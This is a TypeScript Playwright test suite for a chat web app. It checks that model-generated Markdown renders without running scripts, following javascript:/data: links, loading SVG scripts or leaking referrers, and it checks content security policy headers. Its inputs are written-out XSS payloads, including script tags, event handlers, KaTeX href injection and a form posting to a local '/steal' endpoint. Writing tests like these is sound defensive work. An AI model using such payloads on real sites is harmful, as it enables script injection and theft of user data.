import { once } from 'node:events';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { eventually } from '../../../api/process/eventually.testing.ts';
import { chromiumPath, openBrowser } from '../harness/browser.ts';
import { expectSoon } from '../harness/expectSoon.ts';
import { startTarget, type Target } from '../harness/target.ts';
import { enter, openWatchedPage } from '../harness/watchedPage.ts';

const describeInChromium = chromiumPath() ? describe : describe.skip;

/** Runs in the page: returns whether code of a model has run. */
const hasRun = (page: Page) => page.evaluate(() => 'hacked' in globalThis || document.title === 'hacked');

const svg = (script: string) =>
  `data:image/svg+xml;base64,${Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>${script}</script></svg>`,
  ).toString('base64')}`;

const run = "top.hacked=1;document.title='hacked'";

describeInChromium('an answer of a model (skipped without Chromium; set CHROMIUM_PATH)', () => {
  let target: Target;
  let browser: Browser;
  let tracker: Server;
  let tracked: IncomingMessage[];
  let elsewhere: string;

  beforeAll(async () => {
    tracked = [];
    tracker = createServer((request, response) => {
      tracked.push(request);
      response.end('seen');
    }).listen(0, '127.0.0.1');
    await once(tracker, 'listening');
    // A different host than the server's, because cookies ignore ports.
    elsewhere = `http://localhost:${(tracker.address() as AddressInfo).port}`;
    // The web app must work with its trusted documents.
    [target, browser] = await Promise.all([startTarget({ PERSISTED_ONLY: 'on' }), openBrowser()]);
  }, 90_000);
  afterAll(async () => {
    await browser?.close();
    await target?.close();
    tracker.close();
  }, 60_000);

  /** Makes the engine answer with Markdown, and opens it. The answer ends with a word that marks its end. */
  const show = async (markdown: string) => {
    target.engine.play({ tokens: [markdown, '\n\nThe end.'] });
    const { page, violations } = await openWatchedPage(browser);
    await enter(page, target.server.url, 'alice', target.password);
    await page.getByRole('textbox', { name: 'Message' }).fill('Attack me.');
    await page.keyboard.press('Enter');
    const answer = page.getByRole('article', { name: /^Answer/ }).last();
    // Until the Markdown renderer is loaded, the page shows the plain text.
    await answer.locator('.markdown').getByText('The end.').waitFor();
    if (markdown.includes('$$')) await answer.locator('.katex').first().waitFor();
    return { page, answer, violations };
  };

  it('runs no script by tags or event handlers', async () => {
    const { page, answer, violations } = await show(
      `<script>${run}</script>\n\n<img src=x onerror="${run}">\n\n<iframe srcdoc="<script>${run}</script>"></iframe>\n\n` +
        `<svg onload="${run}"><script>${run}</script></svg>\n\n<a href="#" onclick="${run}">press</a>\n\n` +
        `<style>body{display:none}</style><form action="${elsewhere}/steal"><input name=x></form>`,
    );
    expect(await hasRun(page)).toBe(false);
    expect(
      await answer.locator('script, iframe, form, style, img, [onerror], [onload], [onclick]').count(),
    ).toBe(0);
    // The tags are shown as text.
    await answer.getByText(`<script>${run}</script>`).first().waitFor();
    expect(violations).toEqual([]);
    expect(tracked).toEqual([]);
    await page.context().close();
  }, 60_000);

  it('has no link to javascript:, data: or vbscript:, in links, references and formulas', async () => {
    const address = `javascript:${run}`;
    const { page, answer } = await show(
      `[one](${address}) [two](JaVaScRiPt:${run}) [three](data:text/html,<script>${run}</script>) ` +
        `[four](vbscript:x) [five][ref] <javascript:${run}>\n\n[ref]: ${address}\n\n` +
        `$$\\href{${address}}{six}$$\n\n$$\\url{${address}}$$\n\n$$\\htmlData{onclick=${run}}{seven}$$`,
    );
    const followed = await answer
      .locator('a[href]')
      .evaluateAll((links) =>
        links.map((link) => link.getAttribute('href') ?? '').filter((href) => !/^https?:/.test(href)),
      );
    expect(followed).toEqual([]);
    for (const name of ['one', 'two', 'three', 'four', 'five']) {
      await answer.getByText(name).first().click({ timeout: 2000 });
    }
    expect(await hasRun(page)).toBe(false);
    expect(page.context().pages()).toHaveLength(1);
    await page.context().close();
  }, 60_000);

  it('shows no inline picture, in particular no SVG with a script', async () => {
    const { page, answer } = await show(
      `![drawn](${svg(`${run};fetch('${elsewhere}/svg')`)}) ![typed](data:text/html;base64,PHNjcmlwdD4=)`,
    );
    await answer.getByText('drawn').waitFor();
    expect(await answer.locator('.markdown').locator('img, object, embed, svg').count()).toBe(0);
    expect(await hasRun(page)).toBe(false);
    expect(tracked).toEqual([]);
    await page.context().close();
  }, 60_000);

  it('loads no external picture before the reader follows its link, and sends no referrer then', async () => {
    const { page, answer, violations } = await show(
      `![a chart](${elsewhere}/x.png?q=secret)\n\n$$\\includegraphics{${elsewhere}/y.png}$$\n\n[a page](${elsewhere}/page)`,
    );
    await page.waitForLoadState('networkidle');
    expect(tracked).toEqual([]);
    expect(violations).toEqual([]);
    const [opened] = await Promise.all([
      page.context().waitForEvent('page'),
      answer.getByRole('link', { name: /^a chart/ }).click(),
    ]);
    await opened.waitForLoadState();
    expect(await opened.evaluate(() => opener)).toBeNull();
    const [request] = tracked.filter(({ url }) => url?.startsWith('/x.png'));
    expect(request?.headers).not.toHaveProperty('referer');
    expect(request?.headers).not.toHaveProperty('cookie');
    const link = answer.getByRole('link', { name: 'a page' });
    await expectSoon(() => link.getAttribute('rel')).toContain('noopener');
    await page.context().close();
  }, 60_000);
});

describeInChromium('the pages (skipped without Chromium; set CHROMIUM_PATH)', () => {
  let target: Target;
  let browser: Browser;
  beforeAll(async () => {
    [target, browser] = await Promise.all([startTarget(), openBrowser()]);
  }, 90_000);
  afterAll(async () => {
    await browser?.close();
    await target?.close();
  }, 60_000);

  it('of the web app do not violate their content security policy', async () => {
    const { page, violations } = await openWatchedPage(browser);
    const loaded: (string | undefined)[] = [];
    page.on('response', async (response) => {
      if (response.request().resourceType() === 'document') {
        loaded.push((await response.allHeaders())['content-security-policy']);
      }
    });
    await enter(page, target.server.url, 'alice', target.password);
    await page.getByRole('textbox', { name: 'Message' }).fill('Code and maths');
    target.engine.play({ tokens: ['```js\nlet a = 1;\n```\n\n$$a^2$$\n\n| a |\n|---|\n| 1 |\n\nThe end.'] });
    await page.keyboard.press('Enter');
    await page.getByText('The end.').waitFor();
    await page.locator('.katex').first().waitFor();
    const conversation = new URL(page.url()).pathname;
    const paths = [
      '/',
      '/chat',
      conversation,
      '/models',
      '/usage',
      '/settings',
      '/admin',
      '/llm-test',
      '/nothing',
    ];
    for (const path of paths) {
      await page.goto(target.server.url + path);
      await page.waitForLoadState('networkidle');
    }
    expect(violations).toEqual([]);
    expect(loaded.length).toBeGreaterThan(paths.length);
    for (const policy of loaded) {
      expect(policy).toMatch(/^default-src 'none'/);
      expect(policy).toContain("script-src 'self';");
      expect(policy).toContain("frame-ancestors 'none'");
    }
    await page.context().close();
  }, 90_000);

  it('of administrators do not violate it either', async () => {
    const { page, violations } = await openWatchedPage(browser);
    await enter(page, target.server.url, 'root', target.password);
    for (const section of ['users', 'keys', 'activity', 'limits', 'audit']) {
      await page.goto(`${target.server.url}/admin/${section}`);
      await page.getByRole('navigation', { name: 'Administration' }).waitFor();
      await page.waitForLoadState('networkidle');
    }
    expect(violations).toEqual([]);
    await page.context().close();
  }, 90_000);

  it('of GraphiQL and REST do not violate theirs, and work', async () => {
    const { page, violations } = await openWatchedPage(browser);
    await enter(page, target.server.url, 'alice', target.password);
    await page.goto(`${target.server.url}/graphql?query=${encodeURIComponent('{ health { version } }')}`);
    const runs = page.getByRole('button', { name: /execute|run/i }).first();
    await runs.click();
    await page.getByText('"version"').first().waitFor();
    await page.goto(`${target.server.url}/docs`);
    await page.getByText('/v1/chat/completions').first().waitFor();
    await page.waitForLoadState('networkidle');
    expect(violations).toEqual([]);
    await page.context().close();
  }, 90_000);

  it('send documents by id, and in full to a server that does not know the id yet', async () => {
    const { page } = await openWatchedPage(browser);
    const sent: { query?: string; extensions?: { persistedQuery: { sha256Hash: string } } }[] = [];
    const refused = new Set<string>();
    await page.route('**/graphql', async (route) => {
      const operation = route.request().postDataJSON();
      sent.push(operation);
      const documentId = operation.extensions?.persistedQuery.sha256Hash;
      if (operation.query !== undefined || refused.has(documentId)) return route.continue();
      refused.add(documentId);
      const errors = [{ message: 'unknown', extensions: { code: 'NOT_FOUND', documentId } }];
      return route.fulfill({ status: 404, json: { errors } });
    });
    await enter(page, target.server.url, 'alice', target.password);
    expect(sent.filter(({ query }) => query === undefined).length).toBeGreaterThan(1);
    const inFull = () =>
      sent.flatMap(({ query, extensions }) => (query ? extensions?.persistedQuery.sha256Hash : []));
    // Some are sent when the page is shown already.
    await eventually(inFull, (ids) => ids.toSorted().join() === [...refused].toSorted().join());
    await page.context().close();
  }, 60_000);
});
